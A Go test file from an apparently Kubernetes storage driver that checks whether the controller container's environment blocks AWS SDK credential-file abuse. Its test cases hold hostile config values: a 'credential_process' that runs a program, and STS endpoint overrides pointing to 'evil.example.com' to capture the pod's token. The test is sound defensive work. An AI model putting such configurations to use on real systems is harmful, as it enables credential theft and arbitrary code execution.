package ebs

import (
	"context"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/aws/aws-sdk-go-v2/config"
	configv1 "github.com/openshift/api/config/v1"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/berth-csi/berth/drivers"
)

// TestCredentialProcess makes the AWS SDK read files that whoever may write the Secret can put there, in the environment of the
// controller's container: it finds the credentials, starts no program, and sends the tokens of the pod to nobody but AWS.
func TestCredentialProcess(t *testing.T) {
	dir := t.TempDir()
	ran, file := filepath.Join(dir, "ran"), filepath.Join(dir, "credentials")
	token := filepath.Join(dir, "token")
	require.NoError(t, os.WriteFile(token, []byte("secret"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "program"), []byte("#!/bin/sh\necho ran >"+ran+"\n"), 0o700))
	program, role := "credential_process = "+filepath.Join(dir, "program")+"\n", "role_arn = arn:aws:iam::1:role/a\nweb_identity_token_file = "+token+"\n"
	for name, test := range map[string]struct {
		sts, file string
		// key is the access key that the SDK finds. host is where it sends the token.
		key, host string
		// does says what the file does without the environment.
		does func(key, host string) bool
	}{
		"a key pair": {"", "[default]\naws_access_key_id = AKIAGOOD\naws_secret_access_key = a\n", "AKIAGOOD", "", func(key, _ string) bool { return key != "" }},
		"a role":     {"", "[default]\n" + role, "", "sts.us-east-1.amazonaws.com", func(_, host string) bool { return host != "" }},
		"a program":  {"", "[default]\n" + program, "", "", func(string, string) bool { return exists(ran) }},
		"a program of another profile": {"", "[default]\nsource_profile = evil\nrole_arn = arn:aws:iam::1:role/a\n[evil]\n" + program, "", "",
			func(string, string) bool { return exists(ran) }},
		"an endpoint of STS": {"", "[default]\nservices = s\n" + role + "[services s]\nsts =\n  endpoint_url = https://evil.example.com\n", "", "sts.us-east-1.amazonaws.com",
			func(_, host string) bool { return host == "evil.example.com" }},
		"an endpoint of STS where the cluster has its own": {"https://sts.example.com", "[default]\nservices = s\nendpoint_url = https://evil.example.com\n" + role +
			"[services s]\nsts =\n  endpoint_url = https://evil.example.com\n", "", "sts.example.com", func(_, host string) bool { return host == "evil.example.com" }},
	} {
		t.Run(name, func(t *testing.T) {
			require.NoError(t, os.WriteFile(file, []byte(test.file), 0o600))
			find := func(t *testing.T, env []corev1.EnvVar) (key, host string) {
				t.Helper()
				_ = os.Remove(ran)
				for _, e := range env {
					if e.ValueFrom == nil {
						t.Setenv(e.Name, e.Value)
					}
				}
				t.Setenv("AWS_EC2_METADATA_DISABLED", "true")
				t.Setenv("AWS_CA_BUNDLE", "") // which the SDK would ask the recorder to trust
				t.Setenv("AWS_REGION", "us-east-1")
				t.Setenv("AWS_CONFIG_FILE", file)
				t.Setenv("AWS_SHARED_CREDENTIALS_FILE", file)
				nobody := &recorder{}
				loaded, err := config.LoadDefaultConfig(t.Context(), config.WithHTTPClient(nobody), config.WithRetryMaxAttempts(1))
				if err != nil {
					return "", ""
				}
				found, err := loaded.Credentials.Retrieve(context.WithoutCancel(t.Context()))
				if err != nil {
					return "", nobody.host
				}
				return found.AccessKeyID, nobody.host
			}
			t.Run("protected", func(t *testing.T) {
				key, host := find(t, controllerEnvironment(t, test.sts))
				assert.Equal(t, test.key, key, "the SDK finds the key")
				assert.Equal(t, test.host, host, "the SDK sends the token to")
				assert.False(t, exists(ran), "the SDK has started a program")
			})
			t.Run("unprotected", func(t *testing.T) {
				if key, host := find(t, nil); !test.does(key, host) {
					t.Errorf("without the container's environment the SDK finds the key %q and calls %q: the test proves nothing", key, host)
				}
			})
		})
	}
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// recorder answers no request, and remembers where the last one went.
type recorder struct{ host string }

func (r *recorder) Do(request *http.Request) (*http.Response, error) {
	r.host = request.URL.Host
	return nil, errors.New("nothing leaves this test")
}

// controllerEnvironment returns the environment of the container that reads the Secret, with an endpoint of STS, if any. It fails the test
// unless that is the only container with the Secret.
func controllerEnvironment(t *testing.T, sts string) (env []corev1.EnvVar) {
	t.Helper()
	aws := &configv1.AWSPlatformStatus{Region: "us-east-1"}
	if sts != "" {
		aws.ServiceEndpoints = []configv1.AWSServiceEndpoint{{Name: "sts", URL: sts}}
	}
	infrastructure := &configv1.Infrastructure{}
	infrastructure.Status.PlatformStatus = &configv1.PlatformStatus{Type: configv1.AWSPlatformType, AWS: aws}
	manifests, err := Driver.Operand(drivers.Values{Namespace: "ns", Image: func(env string) string { return env }})
	require.NoError(t, err)
	readers := 0
	for _, m := range slices.Concat(drivers.OfKind(manifests, "Deployment"), drivers.OfKind(manifests, "DaemonSet")) {
		workload := &appsv1.Deployment{}
		require.NoError(t, runtime.DefaultUnstructuredConverter.FromUnstructured(map[string]any{"spec": map[string]any{"template": m.Object.Object["spec"].(map[string]any)["template"]}}, workload))
		pod := workload.Spec.Template.Spec
		for _, volume := range pod.Volumes {
			if volume.Secret == nil || volume.Secret.SecretName != Driver.Secrets[0] {
				continue
			}
			for _, c := range pod.Containers {
				if !slices.ContainsFunc(c.VolumeMounts, func(v corev1.VolumeMount) bool { return v.Name == volume.Name }) {
					continue
				}
				readers++
				for _, s := range Driver.Settings {
					if s.Container == c.Name {
						s.Apply(drivers.Cluster{Infrastructure: infrastructure}, &c)
					}
				}
				env = c.Env
			}
		}
	}
	require.Equal(t, 1, readers, "containers with the Secret")
	return env
}
